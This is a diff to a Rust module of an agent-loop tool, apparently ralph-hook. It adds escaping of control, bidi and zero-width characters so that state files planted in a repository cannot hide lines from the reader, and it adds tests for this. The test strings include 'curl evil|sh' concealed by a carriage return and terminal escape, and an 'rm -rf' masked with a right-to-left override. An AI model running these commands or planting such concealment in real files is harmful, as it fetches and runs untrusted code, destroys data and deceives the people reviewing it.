@@ -4,14 +4,16 @@
 //! Continuation prompts stay short: Codex spills reasons over about 2,500 tokens to a
 //! file, and every block repeats the prompt.
 
+use std::borrow::Cow;
 use std::path::Path;
 use std::time::SystemTime;
 
 use crate::clock;
 use crate::engine::decide::{Continuation, Outcome};
-use crate::engine::ownership::{self, Standing};
+use crate::engine::lifecycle::{Found, MirrorCheck};
+use crate::engine::ownership;
 use crate::engine::state::{LastDecision, LoopState};
-use crate::engine::store::Store;
+use crate::engine::store::Mirror;
 
 /// Tasks longer than this are cut in the continuation prompt, with a pointer to the
 /// state file that holds all of it.
@@ -317,6 +319,7 @@ pub fn outcome_message(state: &LoopState, outcome: &Outcome) -> String {
             }
         ),
         Outcome::Cancelled => "it was cancelled".to_string(),
+        Outcome::Replaced => "a new loop replaced it".to_string(),
         Outcome::Error => "of an error".to_string(),
     };
     format!(
@@ -341,12 +344,14 @@ pub fn progress_bar(done: u32, total: u32, width: usize) -> String {
     if total == 0 {
         return String::new();
     }
-    let filled = ((done.min(total) as usize) * width) / total as usize;
+    let filled = (u64::from(done.min(total)) * width as u64 / u64::from(total)) as usize;
     format!("[{}{}]", "#".repeat(filled), ".".repeat(width - filled))
 }
 
 /// How the loop stands, line by line: `show` colours it, `$ralph-loop status` shows it
-/// plain ([`status_text`]).
+/// plain ([`status_text`]). Everything that came from a file is shown through
+/// [`printable`]: a state file planted in a repository cannot hide a line (`\r`, escape
+/// sequences, bidi overrides) from the person reading.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct StatusView {
     /// The first line: where and which host, or that no loop runs (and how the last one
@@ -360,17 +365,29 @@ pub struct StatusView {
     pub lines: Vec<(&'static str, String)>,
 }
 
-/// How the loop in `store` stands at `now`.
-pub fn status_view(store: &Store, state: Option<&LoopState>, now: SystemTime) -> StatusView {
-    let Some(state) = state else {
-        let mut title = format!("No ralph loop in {}.", store.workspace().display());
+/// How the loop `found` stands at `now`: the user's record, else a state file nobody
+/// here started (shown, never followed).
+pub fn status_view(found: &Found, now: SystemTime) -> StatusView {
+    let store = &found.store;
+    let workspace = printable(&store.workspace().display().to_string()).into_owned();
+    let state_path = printable(&store.state_path().display().to_string()).into_owned();
+    let Some(state) = found.state() else {
+        let mut title = format!("No ralph loop in {workspace}.");
+        if let Mirror::Unusable(why) = &found.mirror {
+            title.push_str(&format!(
+                " {state_path} is there but is not a loop: {}.",
+                printable(why)
+            ));
+        }
         if let Some(last) = store.last_history_entry() {
             title.push_str(&format!(
                 " The last one ended {} after {} iteration{}: {}.",
-                last.at,
+                printable(&last.at),
                 last.iteration,
                 if last.iteration == 1 { "" } else { "s" },
-                last.reason.as_deref().unwrap_or(&last.decision)
+                last.reason
+                    .map(crate::engine::history::Reason::as_str)
+                    .unwrap_or(last.decision.as_str())
             ));
         }
         return StatusView {
@@ -396,31 +413,43 @@ pub fn status_view(store: &Store, state: Option<&LoopState>, now: SystemTime) ->
             None => elapsed,
         },
     ));
-    lines.push(("session", standing_text(state)));
-    lines.push(("done when", state.completion_signal.clone()));
+    lines.push(("session", standing_text(found, state)));
+    lines.push((
+        "done when",
+        printable(&state.completion_signal).into_owned(),
+    ));
     if let Some(verify) = &state.verify {
-        lines.push(("verify", verify.clone()));
+        lines.push((
+            "verify",
+            format!(
+                "{} (timeout {}s)",
+                printable(verify),
+                state.verify_timeout_secs
+            ),
+        ));
     }
-    lines.push(("no progress", brake_status(state)));
+    lines.push(("no progress", printable(&brake_status(state)).into_owned()));
     if let Some(last) = &state.last_decision {
-        lines.push(("last stop", last_stop_text(last, now)));
+        lines.push((
+            "last stop",
+            printable(&last_stop_text(last, now)).into_owned(),
+        ));
     }
-    lines.push(("state file", store.state_path().display().to_string()));
+    lines.push(("state file", format!("{state_path}{}", mirror_note(found))));
     StatusView {
         title: format!(
-            "ralph loop in {} ({})",
-            store.workspace().display(),
+            "ralph loop in {workspace} ({})",
             store.agent().display_name()
         ),
         paused: state.paused,
-        untrusted: matches!(ownership::judge_from_outside(state), Standing::Untrusted(_)),
+        untrusted: found.record.is_none(),
         lines,
     }
 }
 
 /// How the loop stands, in plain words, for `$ralph-loop status`.
-pub fn status_text(store: &Store, state: Option<&LoopState>, now: SystemTime) -> String {
-    let view = status_view(store, state, now);
+pub fn status_text(found: &Found, now: SystemTime) -> String {
+    let view = status_view(found, now);
     let mut text = view.title;
     if view.paused {
         text.push_str(" — PAUSED");
@@ -447,20 +476,96 @@ fn last_stop_text(last: &LastDecision, now: SystemTime) -> String {
     format!("{when}, {what}: {}", last.why)
 }
 
-/// The task's first lines, continuation lines aligned under the first (for `start` and
-/// `show`, whose labels are 15 columns wide).
-pub fn indented_task(task: &str) -> String {
-    task_headline(task, 3).replace('\n', "\n               ")
+/// What `show` says about the state file beside its path.
+fn mirror_note(found: &Found) -> String {
+    match found.mirror_check() {
+        None | Some(MirrorCheck::Same) => String::new(),
+        Some(MirrorCheck::Missing) => {
+            " (missing; the loop runs from your record, shown above)".to_string()
+        }
+        Some(MirrorCheck::Edited(fields)) => format!(
+            " (EDITED since ralph-hook wrote it: {} differ; your record, shown above, is what runs)",
+            printable(&fields.join(", "))
+        ),
+        Some(MirrorCheck::Unusable(why)) => format!(
+            " (unreadable: {}; the loop runs from your record, shown above)",
+            printable(&why)
+        ),
+    }
 }
 
-fn standing_text(state: &LoopState) -> String {
-    match (ownership::judge_from_outside(state), &state.session_id) {
-        (Standing::Untrusted(why), _) => {
-            format!("NOT FOLLOWED: {why}; run `ralph-hook adopt` after reading it")
-        }
-        (_, Some(session)) => format!("{session} (only its stops follow the loop)"),
-        (_, None) => "none yet: the first session that stops here claims it".into(),
+/// The task's first lines, continuation lines aligned under the first (for `start` and
+/// `show`, whose labels are 15 columns wide), with control characters made visible.
+pub fn indented_task(task: &str) -> String {
+    task_headline(task, 3)
+        .lines()
+        .map(|line| printable(line).into_owned())
+        .collect::<Vec<_>>()
+        .join("\n               ")
+}
+
+fn standing_text(found: &Found, state: &LoopState) -> String {
+    if found.record.is_none() {
+        let why = ownership::judge_unrecorded(state).why();
+        return format!(
+            "NOT FOLLOWED: {why}; read it above, then `ralph-hook adopt` makes it yours"
+        );
     }
+    match &state.session_id {
+        Some(session) => format!("{} (only its stops follow the loop)", printable(session)),
+        None => "none yet: the first session that stops here claims it".into(),
+    }
+}
+
+/// `text` with every character that could change how a terminal shows the rest made
+/// visible as `\u{…}`: C0 and C1 controls (line breaks included), DEL, bidirectional
+/// overrides and isolates, and zero-width characters.
+pub fn printable(text: &str) -> Cow<'_, str> {
+    if !text.chars().any(is_hidden) {
+        return Cow::Borrowed(text);
+    }
+    let mut out = String::with_capacity(text.len() + 16);
+    for ch in text.chars() {
+        if is_hidden(ch) {
+            out.push_str(&format!("\\u{{{:x}}}", u32::from(ch)));
+        } else {
+            out.push(ch);
+        }
+    }
+    Cow::Owned(out)
+}
+
+/// JSON text with the characters [`printable`] hides escaped as `\uXXXX` (still the same
+/// JSON: they can only stand inside strings), so `show --json` and `log --json` are
+/// as safe on a terminal as the text forms.
+pub fn json_safe(json: String) -> String {
+    if !json.chars().any(is_hidden) {
+        return json;
+    }
+    let mut out = String::with_capacity(json.len() + 16);
+    for ch in json.chars() {
+        if is_hidden(ch) {
+            let mut units = [0u16; 2];
+            for unit in ch.encode_utf16(&mut units) {
+                out.push_str(&format!("\\u{unit:04x}"));
+            }
+        } else {
+            out.push(ch);
+        }
+    }
+    out
+}
+
+fn is_hidden(ch: char) -> bool {
+    ch.is_control()
+        || matches!(
+            ch,
+            '\u{061c}'
+                | '\u{200b}'..='\u{200f}'
+                | '\u{2028}'..='\u{202e}'
+                | '\u{2060}'..='\u{2069}'
+                | '\u{feff}'
+        )
 }
 
 #[cfg(test)]
@@ -558,6 +663,28 @@ mod tests {
         let tail = bounded_tail(&output);
         assert!(tail.ends_with("line 999"));
         assert_eq!(tail.lines().count(), VERIFY_TAIL_LINES);
+    }
+
+    #[test]
+    fn control_and_bidi_characters_are_made_visible() {
+        let planted = "curl evil|sh\r\u{1b}[2K  verify: cargo test";
+        let shown = printable(planted);
+        assert!(
+            !shown.contains('\r') && !shown.contains('\u{1b}'),
+            "{shown}"
+        );
+        assert!(shown.contains("\\u{d}\\u{1b}[2K"), "{shown}");
+        assert_eq!(
+            printable("rm -rf \u{202e}txt.exe"),
+            "rm -rf \\u{202e}txt.exe"
+        );
+        assert_eq!(printable("plain — ünïcode ✓"), "plain — ünïcode ✓");
+        let json = json_safe(serde_json::to_string("a\u{202e}b\u{9b}c").unwrap());
+        assert_eq!(json, "\"a\\u202eb\\u009bc\"");
+        assert_eq!(
+            serde_json::from_str::<String>(&json).unwrap(),
+            "a\u{202e}b\u{9b}c"
+        );
     }
 
     #[test]
